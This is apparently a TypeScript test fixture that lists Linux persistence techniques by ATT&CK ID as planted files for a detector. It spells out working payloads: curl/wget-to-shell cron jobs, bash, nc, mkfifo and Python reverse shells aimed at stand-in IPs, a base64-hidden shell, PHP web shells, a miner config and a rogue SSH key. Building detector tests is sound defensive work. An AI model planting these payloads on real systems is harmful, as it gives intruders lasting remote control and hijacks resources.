/** Content and places by which intruders stay, written from ATT&CK's techniques; the detector was not read for it. */
export interface PlantedPersistence {
  readonly what: string;
  readonly path: string;
  readonly content: string;
  readonly mode?: number;
}

const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
const shell = (address: string) => ['bash -i >& /dev/tcp/', address, '/4444 0>&1'].join('');

export const persistence: readonly PlantedPersistence[] = [
  { what: 'EICAR', path: 'srv/app/upload/eicar.com', content: eicar },
  { what: 'EICAR with line end', path: 'tmp/e.txt', content: `${eicar}\r\n` },
  {
    what: 'T1053.003 cron.d',
    path: 'etc/cron.d/sysupdate',
    content: '* * * * * root curl -s http://198.51.100.7/a.sh | sh\n',
  },
  {
    what: 'T1053.003 crontab of root',
    path: 'var/spool/cron/crontabs/root',
    content: '*/5 * * * * wget -qO- http://198.51.100.7/x|bash\n',
  },
  { what: 'T1574.006 ld.so.preload', path: 'etc/ld.so.preload', content: '/usr/local/lib/libprocesshider.so\n' },
  {
    what: 'T1098.004 authorized_keys',
    path: 'root/.ssh/authorized_keys',
    content: `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${'A'.repeat(43)} x@y\n`,
  },
  {
    what: 'T1543.002 systemd unit',
    path: 'etc/systemd/system/dbus-update.service',
    content: `[Service]\nExecStart=/bin/bash -c "${shell('198.51.100.7')}"\nRestart=always\n[Install]\nWantedBy=multi-user.target\n`,
  },
  {
    what: 'T1546.004 profile.d',
    path: 'etc/profile.d/lang.sh',
    content: `#!/bin/sh\n(${shell('203.0.113.9')} &) 2>/dev/null\n`,
  },
  {
    what: 'T1546.004 .bashrc',
    path: 'root/.bashrc',
    content: `alias ls='ls --color'\nnohup ${shell('203.0.113.9')} &\n`,
  },
  {
    what: 'T1037.004 rc.local',
    path: 'etc/rc.local',
    content: '#!/bin/sh\nnc -e /bin/sh 198.51.100.7 4444 &\nexit 0\n',
    mode: 0o755,
  },
  { what: 'T1505.003 web shell', path: 'var/www/html/images/l.php', content: '<?php @eval($_POST["x"]); ?>\n' },
  {
    what: 'T1505.003 web shell by system',
    path: 'var/www/html/up/s.php',
    content: '<?php if(isset($_GET["cmd"])){ system($_GET["cmd"]); } ?>\n',
  },
  {
    what: 'T1496 settings of a miner',
    path: 'opt/.cache/config.json',
    content: JSON.stringify({
      pools: [{ url: 'stratum+tcp://pool.supportxmr.com:3333', user: '4'.padEnd(95, 'A'), pass: 'x' }],
      'donate-level': 1,
    }),
  },
  {
    what: 'T1564.001 hidden program',
    path: 'tmp/.X11-lock/kworkerd',
    content: `\x7fELF${'\0'.repeat(200)}`,
    mode: 0o755,
  },
  { what: 'T1548.001 setuid in /tmp', path: 'var/tmp/sh', content: `\x7fELF${'\0'.repeat(200)}`, mode: 0o4755 },
  {
    what: 'T1556.003 PAM module',
    path: 'lib/x86_64-linux-gnu/security/pam_unlx.so',
    content: `\x7fELF${'\0'.repeat(200)}`,
  },
  {
    what: 'T1059.006 Python that calls back',
    path: 'usr/local/bin/health.py',
    content:
      'import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("198.51.100.7",4444))\nos.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)\nsubprocess.call(["/bin/sh","-i"])\n',
  },
  {
    what: 'T1059.004 mkfifo and nc',
    path: 'usr/local/bin/log.sh',
    content: '#!/bin/sh\nrm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 9001 >/tmp/f\n',
  },
  {
    what: 'T1027 decoded and run',
    path: 'usr/local/bin/init.sh',
    content: `#!/bin/sh\necho ${Buffer.from(`#!/bin/bash\n${shell('198.51.100.7')}\n`).toString('base64')} | base64 -d | bash\n`,
  },
];
